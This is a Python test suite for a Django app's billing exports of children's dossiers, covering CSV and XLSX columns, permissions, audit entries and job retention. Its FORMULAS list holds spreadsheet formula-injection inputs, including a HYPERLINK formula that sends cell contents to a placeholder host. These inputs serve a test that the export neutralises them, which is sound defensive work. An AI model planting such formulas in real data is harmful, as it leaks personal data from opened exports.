"""Billing exports: columns, encodings, who may export, and the audit row each export writes."""

import csv
import io
import os
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from cantine import exports, services
from cantine.models import JOB_RETENTION, Dossier, Job, TariffGrid
from portal.models import AuditEntry, Child
from tests.cantine.backoffice import with_income
from tests.cantine.grids import PARIS
from tests.cantine.test_creche_places import offer, setting, waiting
from tests.factories import ChildFactory, DossierFactory, PeriodFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path):
    """The jobs' files (exports) go under PRIVATE_MEDIA_ROOT."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path


HEADER = [
    "Référence",
    "Nom de l'enfant",
    "Prénoms de l'enfant",
    "Date de naissance",
    "Responsable du foyer",
    "Courriel du foyer",
    "Établissement",
    "Jours de repas",
    "Heures par semaine",
    "Tarif (€)",
    "Unité",
    "Tranche de QF",
    "Version de la grille",
    "Mensualité du contrat d'accueil (€)",
]


@pytest.fixture
def accepted(make_dossier):
    """Two accepted dossiers (one with DGFiP figures: QF 933.33 → 2.28 €, one declined: 4.61 €) and a draft."""
    period = PeriodFactory()
    TariffGrid.objects.create(period=period, version=3, label="Délibération", data=PARIS, is_active=True)
    child = ChildFactory(first_names="Zoé", last_name="Éloïse-Dupré")
    with_income(DossierFactory(child=child, period=period, income_declined=False), rfr=28000, parts="2.5")
    dossiers = [Dossier.objects.get(child=child), DossierFactory(period=period)]
    agent = UserFactory(is_staff=True)
    for dossier in dossiers:
        services.dossier_submit(dossier=dossier, user=dossier.child.household.owner)
        services.dossier_start_review(dossier=dossier, agent=agent)
        services.dossier_accept(dossier=dossier, agent=agent)
    DossierFactory(period=period)  # a draft: never exported
    return period


def rows_of_csv(content: bytes):
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheet software reads the accents right
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_lists_accepted_dossiers_with_dot_decimals(accepted, agent):
    content, content_type = exports.dossiers_export(
        agent=agent, service=accepted.service, period=accepted, file_format="csv"
    )
    rows = rows_of_csv(content)
    assert content_type.startswith("text/csv") and rows[0] == HEADER and len(rows) == 3
    zoe = next(row for row in rows if row[2] == "Zoé")
    assert zoe[1] == "Éloïse-Dupré" and zoe[7] == "Lundi, Mardi, Jeudi, Vendredi"
    assert (zoe[9], zoe[10], zoe[11], zoe[12]) == ("2.28", "repas", "tranche 4", "3")
    declined = next(row for row in rows[1:] if row[2] != "Zoé")
    assert (declined[9], declined[11]) == ("4.61", "tarif le plus élevé")


def test_a_household_without_a_holder_leaves_the_holder_column_empty(accepted, agent):
    holders = {
        row["reference"]: row["family"]
        for row in exports.export_rows(service=accepted.service, period=accepted)
    }
    orphan = Dossier.objects.filter(period=accepted, status=Dossier.Status.ACCEPTED).first()
    holder = orphan.child.household.adults.get(role="holder")
    assert holders[orphan.reference] == f"{holder.first_names} {holder.last_name}"
    holder.delete()
    holders = {
        row["reference"]: row["family"]
        for row in exports.export_rows(service=accepted.service, period=accepted)
    }
    assert holders[orphan.reference] == "" and len(holders) == 2


def test_xlsx_holds_numbers_shown_with_two_decimals(accepted, agent):
    content, _type = exports.dossiers_export(
        agent=agent, service=accepted.service, period=accepted, file_format="xlsx"
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert [cell.value for cell in sheet[1]] == HEADER
    tariffs = sorted(sheet.cell(row=row, column=10).value for row in (2, 3))
    assert tariffs == [2.28, 4.61]
    assert sheet.cell(row=2, column=10).number_format == "0.00"  # French software shows « 2,28 »


def test_each_export_is_audited_without_personal_data(accepted, agent):
    exports.dossiers_export(
        agent=agent, service=accepted.service, period=accepted, file_format="csv", ip="192.0.2.7"
    )
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORTED)
    assert (entry.actor, entry.ip_address) == (agent, "192.0.2.7")
    assert entry.detail == {
        "service": accepted.service.slug,
        "period": accepted.pk,
        "format": "csv",
        "rows": 2,
    }


def test_the_admin_page_needs_the_export_permission(accepted, client, django_capture_on_commit_callbacks):
    url = reverse("admin:cantine_dossier_export")
    agent = UserFactory(is_staff=True)
    client.force_login(agent)
    assert client.get(url).status_code == 403
    agent.user_permissions.add(Permission.objects.get(codename="export_dossiers"))
    with django_capture_on_commit_callbacks() as queued:
        response = client.post(url, {"period": accepted.pk, "file_format": "csv"})
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "admin:cantine_job_change", args=[job.pk]
    )
    assert (job.status, job.file.name, len(queued)) == (
        Job.Status.QUEUED,
        "",
        1,
    )  # never written in the request
    page = reverse("admin:cantine_job_change", args=[job.pk])
    running = client.get(page).content.decode()
    assert "Actualiser l'avancement" in running and 'http-equiv="refresh"' not in running  # no timed refresh
    services.job_execute(job=job)  # what the task worker runs
    job.refresh_from_db()
    assert (job.status, job.done, job.total, job.percent) == (Job.Status.DONE, 2, 2, 100)
    assert "Actualiser l'avancement" not in client.get(page).content.decode()
    download = client.get(reverse("admin:cantine_job_download", args=[job.pk]))
    assert download.status_code == 200 and "attachment" in download["Content-Disposition"]
    assert len(rows_of_csv(b"".join(download.streaming_content))) == 3
    assert AuditEntry.objects.filter(actor=agent, action="exported").exists()


def test_a_job_file_is_for_the_agent_who_started_it(accepted, client):
    owner, other = UserFactory(is_staff=True), UserFactory(is_staff=True)
    for agent in (owner, other):
        agent.user_permissions.add(Permission.objects.get(codename="export_dossiers"))
    job = services.job_start(
        kind=Job.Kind.EXPORT, agent=owner, params={"period": accepted.pk, "file_format": "xlsx"}
    )
    services.job_execute(job=job)
    client.force_login(other)
    assert client.get(reverse("admin:cantine_job_download", args=[job.pk])).status_code == 404
    client.force_login(owner)
    download = client.get(reverse("admin:cantine_job_download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert sheet.max_row == 3


def test_jobs_and_their_files_are_erased_after_the_retention(accepted):
    job = services.job_start(
        kind=Job.Kind.EXPORT,
        agent=UserFactory(is_staff=True),
        params={"period": accepted.pk, "file_format": "csv"},
    )
    services.job_execute(job=job)
    job.refresh_from_db()
    path = job.file.path
    assert services.jobs_purge() == 0 and os.path.exists(path)
    assert services.jobs_purge(now=timezone.now() + JOB_RETENTION + timedelta(minutes=1)) == 1
    assert not Job.objects.exists() and not os.path.exists(path)


def test_a_creche_export_gives_weekly_hours(make_dossier, agent):
    from tests.factories import CrecheServiceFactory, creche_dossier

    period = PeriodFactory(service=CrecheServiceFactory())
    dossier = creche_dossier(period=period, start=period.starts_on)
    dossier.creche_schedule = {"mon": ["08:30", "17:30"], "tue": ["08:30", "12:00"]}
    dossier.save()
    dossier.status = Dossier.Status.ACCEPTED
    dossier.save()
    content, _type = exports.dossiers_export(
        agent=agent, service=period.service, period=period, file_format="csv"
    )
    row = rows_of_csv(content)[1]
    assert row[8] == "12.50" and row[7] == "" and Decimal(row[8]) == Decimal("12.5")


def test_the_export_costs_the_same_queries_for_many_dossiers(accepted, agent, django_assert_max_num_queries):
    """Rows come from one query and a prefetch, never one query per dossier."""
    for _extra in range(5):
        dossier = DossierFactory(period=accepted)
        Dossier.objects.filter(pk=dossier.pk).update(status=Dossier.Status.ACCEPTED)
    with django_assert_max_num_queries(4):
        rows = [
            exports.row_for(dossier)
            for dossier in exports.accepted_dossiers(service=accepted.service, period=accepted)
        ]
    assert len(rows) == 7


FORMULAS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
    "+33 6 12",
    "-2+3",
    "@SOMME(A1:A9)",
    "\tTab",
    "\rRetour",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_looks_like_a_formula_stays_text_in_both_formats(accepted, agent, name):
    """A family types its child's names; an agent opens the export in a spreadsheet: nothing it typed may run."""
    Child.objects.filter(first_names="Zoé").update(first_names=name)
    service = Dossier.objects.filter(period=accepted).first().service
    csv_content, _type = exports.dossiers_export(
        agent=agent, service=service, period=accepted, file_format="csv"
    )
    first_names = [row[2] for row in rows_of_csv(csv_content)[1:]]
    assert f"'{name}" in first_names
    assert not any(
        value.startswith(exports.FORMULA_STARTS) for row in rows_of_csv(csv_content)[1:] for value in row
    )
    xlsx_content, _type = exports.dossiers_export(
        agent=agent, service=service, period=accepted, file_format="xlsx"
    )
    sheet = load_workbook(io.BytesIO(xlsx_content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    # XlsxWriter writes a control character as OOXML's escape (« _x000D_ »), which spreadsheet software reads back as
    # the character typed; openpyxl leaves an inline string's escape as it is.
    assert name in [unescape(cell.value) for cell in cells]
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_creche_export_gives_the_contracts_monthly_fee(agent):
    """Issue 16, « Journeys »: measured before, the crèche export had the hourly rate but not the monthly fee."""
    period, creche, session = setting()
    dossier = waiting(period)
    contract = services.place_offer_accept(
        offer=offer(dossier, session, creche), user=dossier.child.household.owner
    )
    Dossier.objects.filter(pk=dossier.pk).update(status=Dossier.Status.ACCEPTED)
    content, _type = exports.dossiers_export(
        agent=agent, service=period.service, period=period, file_format="csv"
    )
    header, row = rows_of_csv(content)[:2]
    assert header == HEADER
    assert Decimal(row[-1]) == contract.monthly_fee > 0
